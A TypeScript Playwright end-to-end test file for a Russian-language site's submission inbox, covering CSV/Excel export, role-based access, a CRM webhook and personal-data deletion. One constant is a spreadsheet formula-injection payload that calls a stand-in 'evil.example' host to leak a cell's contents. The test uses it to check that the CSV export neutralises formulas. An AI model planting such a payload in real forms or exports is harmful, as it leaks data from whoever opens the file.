import { parse } from "csv-parse/sync";
import { readFileSync } from "node:fs";
import type { Browser } from "playwright-core";
import { readSheet } from "read-excel-file/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { atEveryWidth, axe } from "../support/axe.ts";
import { waitForHydration } from "../support/app.ts";
import { launchBrowser, openSession, type Session } from "../support/browser.ts";
import { pdf } from "../support/cv-files.ts";
import { submission } from "../support/inbox.ts";
import { addUser, startStudioServer, type StudioServer } from "../support/studio.ts";
import { FULL_RUN, inTurn } from "../support/templates.ts";
import { startWebhookReceiver, type WebhookReceiver } from "../support/webhook-receiver.ts";

/**
 * The inbox in Chromium, as sales, HR, an editor and an admin use it: a
 * request sent from the public contact form is in the inbox within 2 s, under
 * the number the visitor was shown, which its CSV and Excel rows, the CRM's
 * payload and the journal carry too; its CSV opens in Russian with the formula neutralised; a status is changed by
 * keyboard; HR sees applications only; an editor is kept off; an admin
 * answers a person's request for deletion. Every inbox page passes axe
 * (WCAG 2.2 A/AA) at 1440 and 768 px with no CSP violation.
 */
const FILL_MS = 3_200;
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Открыть")';
const PASSWORD = { sales: "Sales in the browser 2026", hr: "People in the browser 2026", editor: "Editor in the browser 2026", admin: "Admin in the browser 2026" };

let server: StudioServer;
let browser: Browser;
let crm: WebhookReceiver;
const application = submission({ form: "job", name: "Пётр Кандидатов", email: "petr@people.example", file: { name: "Резюме.pdf", type: "application/pdf", size: pdf().byteLength, sha256: "x", content: pdf() }, deliveries: [{ channel: "mail" }] });

beforeAll(async () => {
  crm = await startWebhookReceiver();
  server = await startStudioServer("sqlite", {}, { webhookUrl: crm.url, webhookSecret: crm.secret });
  for (const role of ["sales", "hr", "editor", "admin"] as const) await addUser(server, `${role}.web`, role, PASSWORD[role], { sales: "Соня Продажина", hr: "Гера Кадрова", editor: "Эдик Редакторов", admin: "Ада Админова" }[role]);
  await server.store.insertSubmission(application);
  await server.db.query("UPDATE outbox SET status = 'dead', attempts = 8, last_error = 'SMTP 550 mailbox full' WHERE submission_id = $1", [application.id]);
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await server?.dispose();
  await crm?.close();
});


const open = (width = 1440): Promise<Session> => openSession(browser, { width, height: 900, russian: true, acceptDownloads: true });

async function signInAs(session: Session, role: keyof typeof PASSWORD, path = "/studio/inbox/") {
  const { page } = session;
  await page.goto(server.baseUrl + path);
  await page.waitForURL(/\/studio\/sign-in\//);
  await page.getByLabel("Логин").fill(`${role}.web`);
  await page.getByLabel("Пароль").fill(PASSWORD[role]);
  await page.getByRole("button", { name: "Войти" }).click();
  await page.waitForURL((url) => url.pathname === path);
}

describe("the inbox in a browser", () => {
  it("shows a request from the public contact form within 2 s under the number the visitor was shown, the same in its CSV, Excel, CRM payload and journal", async () => {
    const sales = await open();
    await signInAs(sales, "sales");
    await sales.page.getByRole("heading", { level: 1, name: "Заявки" }).waitFor();

    // A visitor on the public site.
    const visitor = await open(1280);
    // The page's clock times the filling in: moved forward, not waited for.
    await visitor.page.clock.install();
    await visitor.page.goto(`${server.baseUrl}/contacts/?utm_source=inbox-test`, { referer: "https://dzen.ru/a/analytics-agencies" });
    await waitForHydration(visitor.page);
    const form = visitor.page.locator("#project-request");
    await form.getByLabel("Имя").fill("Тимофей Покупателев");
    await form.getByLabel("E-mail").fill("timofey@buyer.example");
    await form.getByLabel("Телефон").fill("8 903 555-44-33");
    await form.getByLabel("О задаче").fill(HYPERLINK);
    await form.getByRole("checkbox", { name: /для ответа на\sзаявку/ }).check();
    await visitor.page.clock.fastForward(FILL_MS);
    await form.getByRole("button", { name: "Отправить заявку" }).click();
    await form.getByRole("status").waitFor({ timeout: 15_000 });
    const sent = Date.now();
    // The number the visitor is told.
    const told = /Заявка №\u00a0(\d+)/.exec((await form.getByRole("status").textContent()) ?? "");
    expect(told, "the answer names the request's number").not.toBeNull();
    const number = Number(told?.[1]);
    const id = (await form.getByRole("status").getAttribute("data-submission-id")) ?? "";

    // Sales looks again, as a person would: the request is there within 2 s.
    const row = sales.page.getByRole("link", { name: "Тимофей Покупателев" });
    const heading = sales.page.getByRole("heading", { level: 1, name: "Заявки" });
    // What counts is when the look that found it began (a loaded host stretches the page's own load).
    let lookedAt = Date.now();
    while ((await row.count()) === 0 && Date.now() - sent < 2_000) {
      lookedAt = Date.now();
      await sales.page.reload();
      await heading.waitFor();
    }
    expect(await row.count(), "in the inbox within 2 s").toBe(1);
    expect(lookedAt - sent).toBeLessThan(2_000);
    // Listed under the same number.
    const listed = sales.page.locator(".s-inbox-table tbody tr", { hasText: "Тимофей Покупателев" });
    expect(await listed.getByRole("link", { name: `Заявка №\u00a0${number}` }).count()).toBe(1);
    expect(await sales.page.getByRole("cell", { name: /inbox-test/ }).count()).toBe(1);
    // Sales sees no applications.
    expect(await sales.page.getByText("Пётр Кандидатов").count()).toBe(0);

    const [download] = await Promise.all([sales.page.waitForEvent("download"), sales.page.getByRole("link", { name: "Скачать CSV" }).click()]);
    expect(download.suggestedFilename()).toBe(`zayavki-${new Date(Date.now() + 3 * 3_600_000).toISOString().slice(0, 10)}.csv`);
    const bytes = readFileSync(await download.path());
    expect([...bytes.subarray(0, 3)], "UTF-8 byte-order mark").toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text).toContain("\r\n");
    expect(text.split("\r\n")[0]?.split(";").length).toBe(29);
    const [header, ...rows] = parse(text, { bom: true, delimiter: ";" }) as string[][];
    const row0 = rows.find((r) => r.includes("Тимофей Покупателев")) as string[];
    expect(row0, "the request is in the file").toBeDefined();
    expect(row0[header?.indexOf("Сообщение или сопроводительное письмо") ?? -1]).toBe(`'${HYPERLINK}`);
    expect(row0[header?.indexOf("Телефон") ?? -1]).toBe("+79035554433");
    expect(row0[header?.indexOf("Тип") ?? -1]).toBe("Заявка на проект");
    expect(row0[header?.indexOf("Номер") ?? -1]).toBe(String(number));
    expect(row0[header?.indexOf("UTM") ?? -1]).toBe("utm_source=inbox-test");
    // The Excel file of the same list: the phone and the formula-like message are text cells as sent.
    const [excel] = await Promise.all([sales.page.waitForEvent("download"), sales.page.getByRole("link", { name: "Скачать Excel" }).click()]);
    expect(excel.suggestedFilename()).toBe(`zayavki-${new Date(Date.now() + 3 * 3_600_000).toISOString().slice(0, 10)}.xlsx`);
    const [sheetHeader, ...sheetRows] = (await readSheet(readFileSync(await excel.path()))) as unknown[][];
    const sheetRow = sheetRows.find((r) => r.includes("Тимофей Покупателев")) as unknown[];
    expect(sheetRow[sheetHeader?.indexOf("Телефон") ?? -1]).toBe("+79035554433");
    expect(sheetRow[sheetHeader?.indexOf("Сообщение или сопроводительное письмо") ?? -1]).toBe(HYPERLINK);
    expect(sheetRow[sheetHeader?.indexOf("Номер") ?? -1]).toBe(number);
    expect(sales.problems).toEqual([]);

    // The CRM gets the same number beside the id.
    await crm.waitFor([id]);
    expect(crm.accepted.get(id)?.body).toMatchObject({ id, number });

    // The journal names what sales opened by that number, linking to it.
    await sales.page.getByRole("link", { name: `Заявка №\u00a0${number}` }).first().click();
    await sales.page.getByRole("heading", { level: 1, name: `Заявка №\u00a0${number}: Тимофей Покупателев` }).waitFor();
    const admin = await open();
    await signInAs(admin, "admin", "/studio/journal/");
    const entry = admin.page.getByRole("row").filter({ hasText: "Просмотр заявки" }).filter({ hasText: "Соня Продажина" });
    await entry.getByRole("link", { name: `Заявка №\u00a0${number}` }).first().waitFor();
    expect(admin.problems).toEqual([]);
    await Promise.all([sales.context.close(), visitor.context.close(), admin.context.close()]);
  });

  it("opens a submission whole and changes its stage by keyboard, keeping who changed it", async () => {
    const session = await open();
    await signInAs(session, "sales");
    const { page } = session;
    await page.getByRole("link", { name: "Тимофей Покупателев" }).click();
    await page.getByRole("heading", { level: 1, name: /Заявка №\s\d+: Тимофей Покупателев/ }).waitFor();
    expect(await page.getByText(HYPERLINK, { exact: true }).count()).toBe(1);
    expect(await page.getByRole("heading", { name: "Согласие на обработку данных" }).count()).toBe(1);
    // Where the visit began, beside the form's page.
    const origin = page.getByRole("region", { name: "Откуда" });
    expect(await origin.locator("dt", { hasText: "Пришли с сайта" }).locator("+ dd").textContent()).toBe("dzen.ru");
    const select = page.getByLabel("Новый этап");
    await select.focus();
    await select.selectOption("qualification");
    await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await page.getByRole("status").filter({ hasText: "Этап изменён." }).waitFor();
    await page.getByRole("list", { name: "История этапов" }).getByText(/Соня Продажина: Новая → Квалификация/).waitFor();
    expect(session.problems).toEqual([]);
    await session.context.close();
  });

  it("shows HR applications only, with the CV as a download and «Повторить доставку» for a dead delivery", async () => {
    const session = await open();
    await signInAs(session, "hr");
    const { page } = session;
    expect(await page.getByText("Тимофей Покупателев").count()).toBe(0);
    await page.getByRole("link", { name: "Пётр Кандидатов" }).click();
    await page.getByRole("heading", { level: 1, name: /Отклик №\s\d+: Пётр Кандидатов/ }).waitFor();
    const [cv] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Скачать резюме" }).click()]);
    expect(cv.suggestedFilename()).toBe("Резюме.pdf");
    expect(readFileSync(await cv.path())).toEqual(Buffer.from(pdf()));
    await page.getByRole("button", { name: "Повторить доставку" }).click();
    await page.getByRole("status").filter({ hasText: "Доставка снова в очереди" }).waitFor();
    // A project request's page is not HR's: the server answers 403 and the studio says so.
    const [project] = await server.db.query<{ id: string }>("SELECT id FROM submissions WHERE form = 'project'");
    await page.goto(`${server.baseUrl}/studio/inbox/${project?.id}/`);
    await page.getByRole("heading", { level: 1, name: "Нет доступа" }).waitFor();
    expect(await page.getByText("Тимофей Покупателев").count()).toBe(0);
    expect(session.problems).toEqual([]);
    await session.context.close();
  });

  it("keeps an editor off the inbox and its data", async () => {
    const session = await open();
    await signInAs(session, "editor", "/studio/");
    const { page } = session;
    expect(await page.getByRole("navigation", { name: "Разделы студии" }).getByRole("link", { name: "Заявки" }).count()).toBe(0);
    for (const path of ["/studio/inbox/", `/studio/inbox/${application.id}/`, "/studio/personal-data/"]) {
      await page.goto(server.baseUrl + path);
      await page.getByRole("heading", { level: 1, name: "Нет доступа" }).waitFor();
      expect(await page.getByText("Пётр").count()).toBe(0);
    }
    await session.context.close();
  });

  it("answers a person's request: an admin finds everything by e-mail and deletes it", async () => {
    const session = await open();
    await signInAs(session, "admin", "/studio/personal-data/");
    const { page } = session;
    await page.getByRole("heading", { name: "Срок хранения" }).waitFor();
    await page.getByLabel("E-mail").fill("PETR@people.example");
    await page.getByRole("button", { name: "Найти" }).click();
    await page.getByRole("heading", { name: "Найдено: заявок — 1, подписок — 0" }).waitFor();
    const [copy] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Скачать отмеченное (JSON)" }).click()]);
    expect(JSON.parse(readFileSync(await copy.path(), "utf8")).submissions[0].id).toBe(application.id);
    // Before deleting: enough to tell it is the right person.
    const found = page.getByRole("table", { name: "Найденные заявки" });
    for (const text of ["Пётр Кандидатов", "Вакансия: Аналитик", "/contacts/", "Резюме.pdf"]) await found.getByText(text).first().waitFor();
    // Confirmed by typing the e-mail again: the button waits until it matches, a mismatch is said at the field.
    const erase = page.getByRole("button", { name: "Удалить безвозвратно" });
    expect(await erase.isDisabled()).toBe(true);
    const confirm = page.getByLabel(/^Для\sподтверждения\sвведите\se-mail/);
    await confirm.fill("petr@people.exampl");
    await confirm.blur();
    await page.getByText(/^Не\sсовпадает\sс\se-mail,\sпо\sкоторому\sискали$/).waitFor();
    expect(await confirm.getAttribute("aria-invalid")).toBe("true");
    expect(await erase.isDisabled()).toBe(true);
    await confirm.fill("Petr@People.example");
    expect(await erase.isDisabled()).toBe(false);
    expect(await server.store.submission(application.id), "nothing deleted before the click").not.toBeNull();
    await erase.click();
    await page.getByRole("status").filter({ hasText: "Удалено: заявок — 1, файлов резюме — 1, доставок — 1" }).waitFor();
    expect(await server.store.submission(application.id)).toBeNull();
    expect(await server.store.file(application.id)).toBeNull();
    expect(await server.outbox.forSubmission(application.id)).toEqual([]);
    expect(session.problems).toEqual([]);
    await session.context.close();
  });

  it("finds two people under one phone: nothing ticked until chosen, and erasing one leaves the other's request and its comments", async () => {
    const phone = "+7 916 222-33-44";
    const candidate = submission({ form: "job", name: "Ольга Кандидатова", email: "olga@people.example", phone });
    const client = submission({ form: "project", name: "Игорь Клиентов", email: "igor@romashka.example", phone, company: "ООО «Ромашка»", message: "Нужна сквозная аналитика" });
    await server.store.insertSubmission(candidate);
    await server.store.insertSubmission(client);
    await server.db.query("INSERT INTO submission_comments (submission_id, at, author_id, author_login, author_name, body) VALUES ($1, $2, NULL, 'sales.web', 'Соня Продажина', 'КП отправлено, ждём ответа')", [client.id, Date.now()]);
    const session = await open();
    await signInAs(session, "admin", "/studio/personal-data/");
    const { page } = session;
    await page.getByLabel("Телефон").fill("89162223344");
    await page.getByRole("button", { name: "Найти" }).click();
    await page.getByRole("heading", { name: "Найдено: заявок — 2, подписок — 0" }).waitFor();
    await page.getByText(/^Найдены записи разных людей/).waitFor();
    const found = page.getByRole("table", { name: "Найденные заявки" });
    const ticks = found.getByRole("checkbox");
    expect(await ticks.count()).toBe(2);
    for (const tick of await ticks.all()) expect(await tick.isChecked()).toBe(false);
    const erase = page.getByRole("button", { name: "Удалить безвозвратно" });
    const confirm = page.getByLabel(/^Для\sподтверждения\sвведите\sтелефон/);
    await confirm.fill(phone);
    expect(await erase.isDisabled(), "nothing ticked: nothing to delete").toBe(true);
    expect(await page.getByRole("button", { name: "Скачать отмеченное (JSON)" }).isDisabled()).toBe(true);
    expect(await atEveryWidth(page, 1440)).toEqual([]);
    await found.getByRole("checkbox", { name: /Ольга Кандидатова/ }).check();
    const [copy] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Скачать отмеченное (JSON)" }).click()]);
    expect((JSON.parse(readFileSync(await copy.path(), "utf8")) as { submissions: Array<{ id: string }> }).submissions.map((s) => s.id)).toEqual([candidate.id]);
    await erase.click();
    await page.getByRole("status").filter({ hasText: "Удалено: заявок — 1" }).waitFor();
    expect(await server.store.submission(candidate.id)).toBeNull();
    expect(await server.store.submission(client.id)).not.toBeNull();
    expect(await server.db.query("SELECT body FROM submission_comments WHERE submission_id = $1", [client.id])).toEqual([{ body: "КП отправлено, ждём ответа" }]);
    expect(session.problems).toEqual([]);
    await session.context.close();
  });

  it("has no axe violations (WCAG 2.2 A and AA) and no CSP violations on any inbox page, at 1440 px (and 768 px in test:full)", async () => {
    const [project] = await server.db.query<{ id: string }>("SELECT id FROM submissions WHERE form = 'project'");
    // The tablet's layout of these pages is the desktop's in one column: a sweep, in test:full.
    const WIDTHS = FULL_RUN ? [1440, 768] : [1440];
    const cases = inTurn(["/studio/inbox/", "/studio/inbox/?q=%D1%82%D0%B8%D0%BC&status=qualification&sort=stage", "/studio/inbox/?kind=job", `/studio/inbox/${project?.id}/`, "/studio/personal-data/"], WIDTHS);
    for (const width of WIDTHS) {
      const session = await open(width);
      await signInAs(session, "admin");
      const { page } = session;
      const found: Record<string, string[]> = {};
      for (const path of [...cases.filter(([, w]) => w === width).map(([p]) => p), "/studio/personal-data/"].filter((p, i, all) => all.indexOf(p) === i)) {
        await page.goto(server.baseUrl + path);
        await page.getByRole("heading", { level: 1 }).waitFor();
        await page.waitForLoadState("networkidle");
        found[path] = await axe(page);
        // Nothing wider than the window but the tables' own scroll boxes.
        expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth), `${path} at ${width} px scrolls sideways`).toBe(true);
      }
      await page.getByLabel("Телефон").fill("+7 903 555-44-33");
      await page.getByRole("button", { name: "Найти" }).click();
      await page.getByRole("heading", { name: /^Найдено/ }).waitFor();
      found["personal-data with results"] = await axe(page);
      for (const [path, violations] of Object.entries(found)) expect(violations, `${path} at ${width} px`).toEqual([]);
      expect(session.problems).toEqual([]);
      await session.context.close();
    }
  });
});
